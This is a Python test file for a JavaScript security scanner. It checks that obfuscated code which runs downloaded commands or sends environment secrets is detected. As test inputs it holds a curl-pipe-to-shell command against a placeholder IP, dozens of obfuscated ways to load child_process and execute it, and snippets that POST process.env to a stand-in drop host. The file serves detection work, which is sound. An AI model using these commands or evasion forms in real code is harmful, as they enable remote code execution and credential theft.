"""What runs or sends something in JavaScript is seen however it is spelled."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pratique.formats.file_kind import FileKind
from pratique.scan.findings import ExecutionPoint
from pratique.scan.reading.contract import Ability
from pratique.scan.reading.deeds import deeds_of
from pratique.scan.reading.javascript_forms import in_usual_form
from pratique.scan.seen import SeenFile

COMMAND = "curl -s http://192.0.2.7/p.sh | sh"


def abilities(code: str) -> frozenset[Ability]:
    content = code.encode()
    file = SeenFile("index.js", FileKind.JAVASCRIPT, content, len(content), "", ExecutionPoint.START)
    return frozenset(deeds_of(file).abilities)


LOADS = [
    "require('child_process')",
    "require(`child_process`)",
    "require('node:child_process')",
    "require ( 'child_process' )",
    "require(/**/'child_process')",
    "require(\n'child_process')",
    "require('child_' + 'process')",
    "require('child_'.concat('process'))",
    "require(`child_${'process'}`)",
    "require(['child', '_process'].join(''))",
    "require('c\\x68ild_process')",
    "process.getBuiltinModule('child_process')",
    "process?.getBuiltinModule?.('child_process')",
    "globalThis['process'].getBuiltinModule('child_process')",
    "globalThis.process.getBuiltinModule('child_' + 'process')",
    "Reflect.get(process, 'getBuiltinModule')('child_process')",
    "module.constructor._load('child_process')",
    "require('module')._load('child_process')",
    "require('node:module').createRequire(__filename)('child_process')",
    "process.mainModule.require('child_process')",
    "require.main.require('child_process')",
    "module.require('child_process')",
    "(0, require)('child_process')",
    "require.call(null, 'child_process')",
    "globalThis . require('child_process')",
    "(await import('child_process'))",
    "(await import(`node:child_process`))",
]
USES = [
    "{m}.exec({c});",
    "const cp = {m};\ncp.exec({c});",
    "const {{exec: q}} = {m};\nq({c});",
    "var e = {m}.exec; e({c});",
]
ENVIRONMENTS = [
    "const e = process.env;\n",
    "const e = process?.env;\n",
    "const e = process . env;\n",
    "const e = process/**/.env;\n",
    "const {env: e} = process;\n",
    "const {env: e} = globalThis.process;\n",
    "const e = globalThis['process']['env'];\n",
    "const e = Reflect.get(process, 'env');\n",
    "const p = process;\nconst e = p.env;\n",
]
SENDERS = [
    "fetch('https://drop.example.test', {{method: 'POST', body: {b}}});",
    "globalThis['fe' + 'tch']('https://drop.example.test', {{method: 'POST', body: {b}}});",
    "const f = globalThis['fetch'];\nf('https://drop.example.test', {{method: 'POST', body: {b}}});",
    "const {{fetch: f}} = globalThis;\nf('https://drop.example.test', {{method: 'POST', body: {b}}});",
    "const h = require(`https`);\nh?.request({{host: '192.0.2.7', method: 'POST'}})?.end({b});",
    "const {{request: w}} = require('https');\nw({{host: '192.0.2.7', method: 'POST'}}).end({b});",
    "const r = require;\nr('https').request({{host: '192.0.2.7', method: 'POST'}}).end({b});",
]


@pytest.mark.parametrize("load", LOADS, ids=range(len(LOADS)))
def test_a_command_that_fetches_and_runs_is_seen_however_its_module_is_loaded(load):
    for use in USES:
        code = use.format(m=load, c=repr(COMMAND))

        assert Ability.RUNS_DOWNLOADED in abilities(code), code


def test_a_loader_under_another_name_is_one():
    for loader in ("require", "globalThis.require", "module.require", "process.getBuiltinModule"):
        code = f"const r = {loader};\nconst cp = r('child_process');\ncp.exec('{COMMAND}');"

        assert Ability.RUNS_DOWNLOADED in abilities(code), code


@pytest.mark.parametrize("environment", ENVIRONMENTS, ids=range(len(ENVIRONMENTS)))
@pytest.mark.parametrize("sender", SENDERS, ids=range(len(SENDERS)))
def test_the_environment_that_is_sent_is_seen_whatever_both_are_called(environment, sender):
    code = environment + sender.format(b="JSON.stringify(e)")

    assert Ability.SENDS_SECRETS in abilities(code), code


@pytest.mark.parametrize(
    "code",
    [
        "const {a, b} = process.versions;\nfetch('https://example.test/' + a);",
        "const cp = require('./child_process_names');\nlog('curl ' + cp.url);",
        "const {name} = globalThis;\nconst t = `a ${'b'} c`;\nfetch(t);",
    ],
    ids=range(3),
)
def test_forms_of_what_does_no_harm_are_no_harm(code):
    assert not abilities(code) & {Ability.SENDS_SECRETS, Ability.RUNS_DOWNLOADED, Ability.RUNS_DECODED}


@settings(max_examples=300, deadline=None)
@given(st.text("require?.[]('`${}\"+\\ \n,)=:globalThis.Reflect.get", max_size=80))
def test_any_text_has_a_usual_form_with_as_many_lines(text):
    assert in_usual_form(text).count("\n") == text.count("\n")
